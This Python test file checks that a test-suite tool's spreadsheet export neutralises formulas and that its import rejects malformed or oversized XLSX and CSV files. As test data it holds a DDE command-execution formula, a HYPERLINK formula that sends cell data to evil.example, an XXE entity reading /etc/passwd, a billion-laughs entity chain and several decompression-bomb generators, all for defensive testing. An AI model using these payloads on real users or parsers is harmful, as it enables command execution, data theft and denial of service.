"""Spreadsheets as hostile input and output (#20): every writer neutralises formulas, every
malformed or oversized sheet is one `error:` line, and an import records all rows or none.

The XLSX tests need `openpyxl` and `defusedxml`, which the `test` extra installs: they run in
CI, never skip.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from testsuite import files
from testsuite.cli import app
from testsuite.loader import load_suite
from testsuite.verdicts.sheets import MAX_CELL_CHARS, MAX_SHEET_ROWS, read_sheet, write_sheet

from .test_verdicts import add_de_en_pair, project  # noqa: F401  (the fixture)

runner = CliRunner()

FORMULAS = ["=1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
            '=HYPERLINK("http://evil.example/?x"&A1,"click")']
#: Outputs no writer may change or run: formulas, a quoted formula, a dialogue dash, a control
#: character, a bidi override, and text that looks like OOXML's own escape.
HOSTILE = [*FORMULAS, "'=quoted", "- Yes, I did.", "esc \x1b[31m red", "bidi \u202e evil",
           "_x001B_ literal", "+49 30 1234"]


def base(root: Path) -> list[str]:
    return ["--suite", str(root / "suites"), "--suite", str(root / "rules")]


def hostile_outputs(root: Path, first: str, second: str) -> Path:
    """A system named like a formula whose two outputs are hostile."""
    outputs = root / "hostile"
    outputs.mkdir(exist_ok=True)
    (outputs / "=HYPERLINK(1)").write_text(f"{first}\n{second}\n", encoding="utf-8")
    return outputs


def fill(sheet: Path, verdict: str = "fail") -> Path:
    """Fill every verdict cell as a spreadsheet program would save the file."""
    filled = sheet.with_name("filled" + sheet.suffix)
    if sheet.suffix == ".xlsx":
        workbook = openpyxl.load_workbook(sheet)
        for row in workbook.active.iter_rows(min_row=2):
            row[11].value = verdict
        workbook.save(filled)
    else:
        rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig"), newline="")))
        for row in rows[1:]:
            row[11] = verdict
        with filled.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows(rows)
    return filled


# --- one neutralisation for every spreadsheet writer ---------------------------------------


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize("pair", [(0, 1), (2, 3), (4, 5), (6, 7), (8, 0)])
def test_export_neutralises_and_import_reads_back_exactly(project, suffix, pair):  # noqa: F811
    first, second = (HOSTILE[i] for i in pair)
    outputs = hostile_outputs(project, first, second)
    sheet = project / f"pending{suffix}"
    result = runner.invoke(app, ["export", str(outputs), *base(project), "--out", str(sheet)])
    assert result.exit_code == 0, result.output
    assert "wrote 2 pending decisions" in result.output
    if suffix == ".csv":
        rows = list(csv.DictReader(io.StringIO(sheet.read_text(encoding="utf-8-sig"),
                                               newline="")))
        for row in rows:
            assert row["systems"] == "'=HYPERLINK(1)"
            assert not row["output"].startswith(("=", "+", "-", "@")), row
        written = [row["output"] for row in rows]
        assert written == [("'" + o if o.startswith(("=", "@", "-", "+", "'")) else o)
                           for o in (first, second)]
    else:
        part = zipfile.ZipFile(sheet).read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in part and "<f " not in part  # no formula cell anywhere
        cells = openpyxl.load_workbook(sheet).active
        for row in cells.iter_rows(min_row=2):
            assert all(c.data_type in ("s", "inlineStr") for c in row)  # text, never "f"
            assert (row[8].value, row[8].quotePrefix) == ("=HYPERLINK(1)", True)
            assert row[7].quotePrefix == row[7].value.startswith(("=", "@", "-", "+"))
    # Filled in and read back: the outputs are the ones the systems gave, byte for byte.
    result = runner.invoke(app, ["import", str(fill(sheet)), str(outputs), *base(project),
                                 "--force", "--dry-run"])
    assert result.exit_code == 0, result.output
    assert "would record 2 verdicts (0 pass, 2 fail)" in result.output
    assert [r.output for r in read_sheet(fill(sheet))] == [first, second]


def test_a_sheet_row_with_a_control_character_is_written_not_a_crash(tmp_path):
    path = tmp_path / "s.xlsx"
    write_sheet(path, [{"item": "1", "output": "a\x00b\x1bc\x7f_x0041_", "verdict": "pass"}])
    assert [r.output for r in read_sheet(path)] == ["a\x00b\x1bc\x7f_x0041_"]


# --- sheets read within limits ---------------------------------------------------------------


def xlsx_bytes(rows: list[list[str]]) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rewritten(data: bytes, change, drop: tuple[str, ...] = ()) -> bytes:
    """An XLSX with some parts changed (change(name, bytes) -> bytes) or dropped."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename not in drop:
                archive.writestr(info.filename, change(info.filename,
                                                       source.read(info.filename)))
    return out.getvalue()


def in_sheet(change):
    return lambda name, data: change(data) if name == "xl/worksheets/sheet1.xml" else data


ROWS = [["item", "output", "verdict"]] + [[f"i{n}", f"output {n}", "pass"] for n in range(5)]
LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
          + b"".join(b'<!ENTITY %s "%s">' % (name, (b"&%s;" % previous) * 10)
                     for previous, name in zip([b"a", b"b", b"c", b"d", b"e", b"f", b"g"],
                                               [b"b", b"c", b"d", b"e", b"f", b"g", b"h"],
                                               strict=True)) + b"]>")
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def test_the_xlsx_dimension_is_not_trusted(tmp_path):
    """A `<dimension>` that claims fewer rows than the sheet has: every row is read."""
    data = rewritten(xlsx_bytes(ROWS), in_sheet(
        lambda d: d.replace(b'<dimension ref="A1:C6"', b'<dimension ref="A1:C2"')))
    assert b'ref="A1:C2"' in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    path = tmp_path / "lying.xlsx"
    path.write_bytes(data)
    assert [r.item for r in read_sheet(path)] == ["i0", "i1", "i2", "i3", "i4"]


MALFORMED = {
    "random bytes": (os.urandom(2000), "not an XLSX workbook (not a zip archive)"),
    "empty": (b"", "not an XLSX workbook (not a zip archive)"),
    "a renamed CSV": (b"item,output,verdict\n1,a,pass\n",
                      "not an XLSX workbook (not a zip archive)"),
    "no content types": (rewritten(xlsx_bytes(ROWS), lambda n, d: d,
                                   drop=("[Content_Types].xml",)),
                         "not an XLSX workbook (a zip archive without [Content_Types].xml)"),
    "an external entity": (rewritten(xlsx_bytes(ROWS), in_sheet(
        lambda d: XXE + d.replace(b"output 1", b"&e;"))), "refused: the XLSX declares XML "
        "entities"),
    "billion laughs": (rewritten(xlsx_bytes(ROWS), in_sheet(
        lambda d: LAUGHS + d.replace(b"output 1", b"&h;"))), "refused: the XLSX declares "
        "XML entities"),
    "a missing sheet": (rewritten(xlsx_bytes(ROWS), lambda n, d: d,
                                  drop=("xl/worksheets/sheet1.xml",)), "the XLSX has no sheet"),
}


@pytest.mark.parametrize("case", list(MALFORMED))
def test_a_malformed_xlsx_is_one_error_line(project, case):  # noqa: F811
    data, message = MALFORMED[case]
    assert data is not None
    sheet = project / "sheet.xlsx"
    sheet.write_bytes(data)
    result = runner.invoke(app, ["import", str(sheet), *base(project), "--dry-run"])
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    lines = result.output.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: {sheet}: {message}"), lines


def test_an_xlsx_that_unpacks_beyond_the_limit_is_refused_unread(tmp_path):
    """A cell of 150 MB packs into about 150 KB: refused from the archive's directory."""
    data = rewritten(xlsx_bytes(ROWS), in_sheet(
        lambda d: d.replace(b"output 1", b"A" * (150 * 2**20))))
    assert len(data) < 2**20
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(data)
    with pytest.raises(files.TestsuiteError, match=r"bomb.xlsx: refused: the XLSX unpacks to "
                       r"more than 128 MB"):
        read_sheet(path)


def test_an_xlsx_row_bomb_stops_at_the_row_limit(tmp_path):
    """One cell in the sheet's last row and column: openpyxl would fill 1,048,576 rows."""
    data = rewritten(xlsx_bytes(ROWS), in_sheet(lambda d: d.replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t>'
        b"</is></c></row></sheetData>")))
    path = tmp_path / "rows.xlsx"
    path.write_bytes(data)
    with pytest.raises(files.TestsuiteError, match=rf"rows.xlsx: refused: the sheet has more "
                       rf"than {MAX_SHEET_ROWS:,} rows"):
        read_sheet(path)


def test_a_shared_string_repeated_in_every_cell_stops_at_the_character_limit(tmp_path):
    """A cell may name one of the workbook's shared strings: 300 KB put 100,000 characters
    into each cell of 100,000 rows and kept `import` busy for minutes. The characters of all
    cells together are counted as they are read."""
    shared = (b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
              b'count="1" uniqueCount="1"><si><t>' + b"x" * (MAX_CELL_CHARS - 1)
              + b"</t></si></sst>")
    row = b"<row>" + b'<c t="s"><v>0</v></c>' * 3 + b"</row>"

    def change(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return data.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" '
                                b'ContentType="application/vnd.openxmlformats-officedocument.'
                                b'spreadsheetml.sharedStrings+xml"/></Types>')
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(b"</Relationships>", b'<Relationship Id="rIdS" Type="http://'
                                b"schemas.openxmlformats.org/officeDocument/2006/relationships"
                                b'/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
        if name == "xl/worksheets/sheet1.xml":
            head, rest = data.split(b"<sheetData>")
            return head + b"<sheetData>" + row * 1000 + b"</sheetData>" + \
                rest.split(b"</sheetData>")[1]
        return data

    buffer = io.BytesIO(rewritten(xlsx_bytes(ROWS), change))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", shared)
    path = tmp_path / "shared.xlsx"
    path.write_bytes(buffer.getvalue())
    assert path.stat().st_size < 2**20
    with pytest.raises(files.TestsuiteError, match=r"shared.xlsx:448: refused: the sheet's "
                       r"cells hold more than 128 million characters together"):
        read_sheet(path)


def test_a_csv_cell_beyond_the_limit_is_one_error_line(project):  # noqa: F811
    sheet = project / "long.csv"
    sheet.write_text("item,output,verdict\nidiom-01,ok,pass\nidiom-02," + "x" * 200_000
                     + ",pass\n", encoding="utf-8")
    result = runner.invoke(app, ["import", str(sheet), *base(project), "--dry-run"])
    assert result.exit_code == 1
    assert result.output == (f"error: {sheet}:3: refused: a cell has more than "
                             f"{MAX_CELL_CHARS:,} characters (the limit of a cell)\n")


def test_a_bad_byte_in_a_sheet_with_a_byte_order_mark_is_named_where_it_is(project):  # noqa: F811
    sheet = project / "bom.csv"
    sheet.write_bytes(b"\xef\xbb\xbfitem,output,verdict\nidiom-01,Tom \xe4 hat,pass\n")
    result = runner.invoke(app, ["import", str(sheet), *base(project), "--dry-run"])
    assert result.exit_code == 1
    assert "bom.csv:2: line 2 is not valid UTF-8 (byte 0xe4 at column 14)" in result.output


@pytest.mark.parametrize("rows, line, why", [
    # A stray quote opening the note of row 2: leniently read, row 3 became part of that note
    # and its verdict was dropped without a word ("recorded 1 verdict").
    ('idiom-01,Tom plauderte.,pass,"oops\nidiom-02,"Die Prüfung, leicht",fail,\n', 3,
     "',' expected after '\"'"),
    ('idiom-01,Tom plauderte.,pass,"never closed\n', 2, "unexpected end of data")])
def test_a_csv_quote_that_does_not_close_is_one_error_line(project, rows, line, why):  # noqa: F811
    """Found by the issue 20 red team: a filled sheet with one unmatched quote lost rows."""
    sheet = project / "quote.csv"
    sheet.write_text("item,output,verdict,note\n" + rows, encoding="utf-8")
    result = runner.invoke(app, ["import", str(sheet), *base(project), "--dry-run"])
    assert result.exit_code == 1, result.output
    assert result.output == (f"error: {sheet}:{line}: refused: not a readable CSV ({why}: a "
                             "cell that starts with a quote must end with one, on this line "
                             "or one above)\n")


# A FIFO or a device as the sheet, in a child process with a time limit: a regression must
# fail here, not hang the test run.
@pytest.mark.parametrize("kind", ["fifo", "/dev/zero"])
def test_a_pipe_or_device_as_the_sheet_is_refused_at_once(project, kind):  # noqa: F811
    sheet = Path(kind)
    if kind == "fifo":
        sheet = project / "sheet.csv"
        os.mkfifo(sheet)
    done = subprocess.run([sys.executable, "-m", "testsuite", "import", str(sheet),
                           *base(project), "--dry-run"], capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 1
    what = "a named pipe (FIFO)" if kind == "fifo" else "a device"
    assert done.stderr == f"error: {sheet}: cannot read: it is {what}, not a regular file\n"


def test_a_sheet_from_standard_input(project):  # noqa: F811
    result = runner.invoke(app, ["import", "-", *base(project), "--dry-run"],
                           input="item,output,verdict\nidiom-01,Tom plauderte.,pass\n")
    assert result.exit_code == 0, result.output
    assert "would record 1 verdict (1 pass, 0 fail)" in result.output


# --- imports all rows or none ------------------------------------------------------------------


@pytest.fixture()
def two_pairs(project: Path) -> Path:  # noqa: F811
    """A second pair, so that one sheet's rows go to two verdicts files."""
    add_de_en_pair(project)
    (project / "sheet.csv").write_text(
        "pair,item,output,verdict\nde-en,idiom-01,Tom finally told.,fail\n"
        "en-de,idiom-01,Tom hat endlich alles verraten.,pass\n", encoding="utf-8")
    return project


def test_import_with_a_locked_second_file_records_nothing(two_pairs, monkeypatch):
    second = two_pairs / "rules" / "en-de" / "verdicts.yaml"
    script = ("import sys, time; from pathlib import Path; from testsuite import files\n"
              "with files.lock(Path(sys.argv[1])):\n    print('held', flush=True)\n"
              "    time.sleep(60)\n")
    child = subprocess.Popen([sys.executable, "-c", script, str(second)],
                             stdout=subprocess.PIPE, text=True)
    try:
        assert child.stdout is not None and child.stdout.readline() == "held\n"
        monkeypatch.setattr(files, "LOCK_TIMEOUT", 0.3)
        result = runner.invoke(app, ["import", str(two_pairs / "sheet.csv"),
                                     *base(two_pairs), "--pair", "de-en"])
    finally:
        child.kill()
        child.wait()
    assert result.exit_code == 1
    assert f"error: {second}: waited 0.3 s for the lock" in result.output
    assert ("error: nothing was recorded (the 2 decisions in 2 verdicts files are recorded "
            "all or none)") in result.output
    assert not (two_pairs / "rules" / "de-en" / "verdicts.yaml").exists()
    assert not second.exists()


def test_import_with_an_unwritable_second_file_records_nothing(two_pairs):
    first = two_pairs / "rules" / "de-en" / "verdicts.yaml"
    second = two_pairs / "rules" / "en-de" / "verdicts.yaml"
    second.mkdir()  # a folder in the way: it can be neither read nor replaced
    result = runner.invoke(app, ["import", str(two_pairs / "sheet.csv"), *base(two_pairs),
                                 "--pair", "de-en"])
    assert result.exit_code == 1
    assert "nothing was recorded" in result.output
    assert not first.exists()
    assert sorted(p.name for p in first.parent.iterdir()) == [".testsuite", "mwe.yaml"]


def test_import_into_two_files_records_both(two_pairs):
    result = runner.invoke(app, ["import", str(two_pairs / "sheet.csv"), *base(two_pairs),
                                 "--pair", "de-en"])
    assert result.exit_code == 0, result.output
    rules = load_suite([two_pairs / "suites", two_pairs / "rules"]).rules
    assert [v.verdict for v in rules[("de-en", "idiom-01")].verdicts] == ["fail"]
    assert [v.verdict for v in rules[("en-de", "idiom-01")].verdicts] == ["pass"]
